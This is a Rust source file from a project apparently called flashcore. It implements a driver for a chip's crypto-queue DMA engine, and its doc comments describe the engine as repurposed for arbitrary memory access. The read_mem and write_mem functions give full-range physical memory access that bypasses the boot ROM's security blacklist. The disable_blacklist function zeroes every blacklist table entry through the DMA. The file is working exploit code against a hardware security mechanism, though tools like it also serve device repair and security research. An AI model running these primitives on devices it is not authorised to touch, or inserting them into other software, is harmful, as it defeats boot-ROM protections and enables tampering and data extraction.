// SPDX-FileCopyrightText: 2025 The flashcore Authors
// SPDX-License-Identifier: GPL-3.0-or-later

//! CQDMA: the crypto-queue DMA engine, repurposed for arbitrary memory
//! access. The engine copies physical memory without consulting the BROM
//! security blacklist, so a DMA through an always-writable scratch buffer
//! turns `read32`/`write32` into full-range primitives.

use std::time::Duration;

use crate::engine::{poll_set, MemAccess};
use crate::error::Result;

// Register offsets from the per-chip base.
const REG_INT_FLAG: u32 = 0x00;
const REG_INT_EN: u32 = 0x04;
const REG_EN: u32 = 0x08;
const REG_RESET: u32 = 0x0C;
const REG_STOP: u32 = 0x10;
const REG_FLUSH: u32 = 0x14;
const REG_CON: u32 = 0x18;
const REG_SRC: u32 = 0x1C;
const REG_DST: u32 = 0x20;
const REG_LEN: u32 = 0x24;

/// 16-byte burst, 32-bit word size.
const CON_BURST16_WORD32: u32 = 0x0007_0002;

/// DMA transfer unit.
pub const CHUNK: usize = 16;

const COMPLETION_TIMEOUT: Duration = Duration::from_secs(1);

/// One blacklist entry: `{flags, _, start, end}`.
const BLACKLIST_ENTRY_WORDS: u32 = 4;
/// Entries per table.
const BLACKLIST_ENTRIES: u32 = 8;

/// CQDMA driver over a word-access seam.
pub struct Cqdma<'m> {
    base: u32,
    scratch: u32,
    mem: &'m mut dyn MemAccess,
}

impl<'m> Cqdma<'m> {
    pub fn new(mem: &'m mut dyn MemAccess, base: u32, scratch: u32) -> Self {
        Cqdma { base, scratch, mem }
    }

    /// Stop, reset and clear pending interrupts.
    pub fn init(&mut self) -> Result<()> {
        self.mem.write32(self.base + REG_STOP, 1)?;
        self.mem.write32(self.base + REG_RESET, 1)?;
        self.mem.write32(self.base + REG_FLUSH, 1)?;
        self.mem.write32(self.base + REG_INT_EN, 0)?;
        self.mem.write32(self.base + REG_INT_FLAG, 0)?;
        Ok(())
    }

    /// One DMA copy of up to [`CHUNK`] bytes.
    fn transfer(&mut self, src: u32, dst: u32, len: u32) -> Result<()> {
        self.mem.write32(self.base + REG_SRC, src)?;
        self.mem.write32(self.base + REG_DST, dst)?;
        self.mem.write32(self.base + REG_LEN, len)?;
        self.mem.write32(self.base + REG_CON, CON_BURST16_WORD32)?;
        self.mem.write32(self.base + REG_EN, 1)?;
        poll_set(
            self.mem,
            self.base + REG_INT_FLAG,
            1,
            COMPLETION_TIMEOUT,
            "cqdma transfer",
        )?;
        self.mem.write32(self.base + REG_INT_FLAG, 0)?;
        self.mem.write32(self.base + REG_STOP, 1)?;
        Ok(())
    }

    /// Read arbitrary memory by bouncing it through the scratch buffer.
    ///
    /// Words are assembled little-endian (ARM convention).
    pub fn read_mem(&mut self, addr: u32, len: usize) -> Result<Vec<u8>> {
        let mut out = Vec::with_capacity(len);
        let mut done = 0usize;
        while done < len {
            let take = (len - done).min(CHUNK);
            self.transfer(addr + done as u32, self.scratch, take as u32)?;
            let mut chunk = [0u8; CHUNK];
            for w in 0..take.div_ceil(4) {
                let word = self.mem.read32(self.scratch + (w as u32) * 4)?;
                chunk[w * 4..w * 4 + 4].copy_from_slice(&word.to_le_bytes());
            }
            out.extend_from_slice(&chunk[..take]);
            done += take;
        }
        Ok(out)
    }

    /// Write arbitrary memory through the scratch buffer.
    pub fn write_mem(&mut self, addr: u32, data: &[u8]) -> Result<()> {
        let mut done = 0usize;
        while done < data.len() {
            let take = (data.len() - done).min(CHUNK);
            let mut chunk = [0u8; CHUNK];
            chunk[..take].copy_from_slice(&data[done..done + take]);
            for w in 0..take.div_ceil(4) {
                let word = u32::from_le_bytes(chunk[w * 4..w * 4 + 4].try_into().unwrap());
                self.mem.write32(self.scratch + (w as u32) * 4, word)?;
            }
            self.transfer(self.scratch, addr + done as u32, take as u32)?;
            done += take;
        }
        Ok(())
    }

    /// Disarm a security-range blacklist table: every entry's start and
    /// end are zeroed through the DMA itself (which the blacklist does
    /// not bind).
    pub fn disable_blacklist(&mut self, table_addr: u32) -> Result<()> {
        for entry in 0..BLACKLIST_ENTRIES {
            let entry_addr = table_addr + entry * BLACKLIST_ENTRY_WORDS * 4;
            let zeros = [0u8; 8];
            // start and end live in words 2 and 3.
            self.write_mem(entry_addr + 8, &zeros)?;
        }
        Ok(())
    }

    /// True once every entry in the table reads back start == end == 0.
    pub fn blacklist_disarmed(&mut self, table_addr: u32) -> Result<bool> {
        for entry in 0..BLACKLIST_ENTRIES {
            let entry_addr = table_addr + entry * BLACKLIST_ENTRY_WORDS * 4;
            let bytes = self.read_mem(entry_addr + 8, 8)?;
            if bytes.iter().any(|&b| b != 0) {
                return Ok(false);
            }
        }
        Ok(true)
    }
}
